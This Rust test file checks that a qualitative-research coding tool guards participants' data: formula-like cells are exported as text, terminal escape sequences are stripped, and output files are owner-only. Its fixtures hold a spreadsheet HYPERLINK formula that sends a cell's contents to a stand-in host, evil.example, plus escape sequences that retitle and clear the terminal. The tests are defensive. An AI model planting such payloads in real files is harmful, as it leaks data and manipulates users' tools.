//! Protecting participants: safe exports (formula cells, terminal escape
//! sequences, owner-only output files).

use crate::util::Study;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?q="&E2,"Click here")"#;

/// A study whose transcripts carry a spreadsheet formula and terminal
/// escape sequences, as a hostile or careless transcript could.
fn hostile() -> Study {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "\
codebook: Safety
themes:
  - id: family
    label: Family
    codes:
      - id: police
        label: Goes to the police
        match:
          any: [policía, police, HYPERLINK]
",
    )
    .file(
        "transcripts/r01.txt",
        &format!(
            "\
Entrevistadora: ¿Qué hizo su familia?
R01: Mi mamá fue a la policía todos los días.

{HYPERLINK}

=1+1 dijo la policía
"
        ),
    )
    .file(
        "transcripts/r02.txt",
        "\
Interviewer: What happened then?
R02: The police\u{1b}]0;pwned\u{7}\u{1b}[2J never came back.\u{7}
",
    );
    s.run(&["code"]).ok();
    s
}

#[test]
fn csv_cells_that_start_like_formulas_are_written_as_text() {
    let s = hostile();
    let quoted = format!("\"'{}\"", HYPERLINK.replace('"', "\"\""));
    // The coding sheet a coder opens in a spreadsheet.
    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
    assert!(sheet.contains(&format!(",{quoted},h")), "{sheet}");
    assert!(sheet.contains(",'=1+1 dijo la policía,h"), "{sheet}");
    assert!(!sheet.contains(&format!(",{},", HYPERLINK.replace('"', "\"\""))));
    // Quotes and the tidy export.
    let quotes = s
        .run(&["quote", "police", "--format", "csv"])
        .ok()
        .to_string();
    assert!(quotes.contains(&format!(",{quoted}\n")), "{quotes}");
    assert!(quotes.contains(",'=1+1 dijo la policía\n"), "{quotes}");
    let export = s.run(&["export", "--format", "csv"]).ok().to_string();
    assert!(export.contains(&quoted), "{export}");
    assert!(!export.contains(",=1+1"), "{export}");
    // Counts stay plain integers.
    assert_eq!(
        s.run(&["matrix", "--format", "csv"]).ok(),
        "code,r01,r02,total\nfamily,3,1,4\nfamily/police,3,1,4\n"
    );
}

#[test]
fn a_coding_sheet_with_guarded_cells_reads_back() {
    let s = hostile();
    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
    // The coder marks the formula-like excerpt and saves the sheet.
    let marked: String = sheet
        .lines()
        .map(|l| {
            if l.contains("'=1+1") {
                format!("{l}x\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    s.file("codings/ana.csv", &marked);
    let out = s.run(&["code"]);
    out.ok();
    assert!(!out.stderr.contains("warning"), "{}", out.stderr);
}

/// A path in the study folder for `--output`.
fn out(s: &Study, name: &str) -> String {
    s.path().join(name).display().to_string()
}

/// The cells of the first worksheet's XML that hold formulas (`<f>`).
fn formulas(xlsx: &[u8]) -> Vec<String> {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut xml = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml.match_indices("<f>")
        .map(|(i, _)| xml[i..].to_string())
        .collect()
}

#[test]
fn workbooks_hold_formula_like_quotes_as_text() {
    let s = hostile();
    s.run(&[
        "matrix",
        "--cell",
        "quote",
        "--width",
        "200",
        "--format",
        "xlsx",
        "--output",
        &out(&s, "m.xlsx"),
    ])
    .ok();
    let bytes = std::fs::read(s.path().join("m.xlsx")).unwrap();
    assert_eq!(formulas(&bytes), Vec::<String>::new());
    let rows = crate::util::sheet_rows(&bytes, "m.xlsx");
    assert!(
        rows.iter().flatten().any(|c| c.starts_with("Mi mamá")),
        "{rows:?}"
    );
    s.run(&[
        "sheet",
        "--coder",
        "ana",
        "--format",
        "xlsx",
        "--output",
        &out(&s, "ana.xlsx"),
    ])
    .ok();
    let bytes = std::fs::read(s.path().join("ana.xlsx")).unwrap();
    assert_eq!(formulas(&bytes), Vec::<String>::new());
    let rows = crate::util::sheet_rows(&bytes, "ana.xlsx");
    assert!(rows.iter().flatten().any(|c| c == HYPERLINK), "{rows:?}");
    assert!(
        rows.iter().flatten().any(|c| c == "=1+1 dijo la policía"),
        "{rows:?}"
    );
}

#[test]
fn escape_sequences_in_transcripts_never_reach_the_terminal() {
    let s = hostile();
    for args in [
        &["quote", "police"][..],
        &["quote", "police", "--format", "markdown"],
        &["search", "police"],
        &["search", "police", "--format", "markdown"],
        &["matrix", "--cell", "quote", "--width", "200"],
        &[
            "matrix", "--cell", "quote", "--width", "200", "--format", "markdown",
        ],
    ] {
        let out = s.run(args);
        let text = out.ok();
        assert!(
            !text.contains(['\u{1b}', '\u{7}']),
            "{args:?} printed a control character: {text:?}"
        );
        assert!(text.contains("never came"), "{args:?}: {text}");
    }
    assert!(s
        .run(&["quote", "police"])
        .ok()
        .contains("  The police never came back.\n"));
    // JSON escapes them; scripts get the text as it is.
    let json = s
        .run(&["quote", "police", "--format", "json"])
        .ok()
        .to_string();
    assert!(
        json.contains(r"The police\u001b]0;pwned\u0007\u001b[2J never"),
        "{json}"
    );
}

#[test]
fn error_messages_quoting_a_file_strip_escape_sequences() {
    let s = hostile();
    s.file(
        "codings/ana.csv",
        "id,fam\u{1b}[2Jily\ntranscripts/r01.txt:2,x\n",
    );
    let err = s.run(&["code"]);
    assert_eq!(
        err.bad_input().lines().next(),
        Some("error: column `family` is not a code of the codebook")
    );
}

#[cfg(unix)]
#[test]
fn output_files_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let s = hostile();
    s.run(&["matrix", "--format", "csv", "--output", &out(&s, "m.csv")])
        .ok();
    s.run(&["export", "--format", "json", "--output", &out(&s, "e.json")])
        .ok();
    s.run(&["sheet", "--coder", "ana", "--output", &out(&s, "ana.csv")])
        .ok();
    for f in ["m.csv", "e.json", "ana.csv"] {
        let mode = std::fs::metadata(s.path().join(f))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{f}");
    }
}
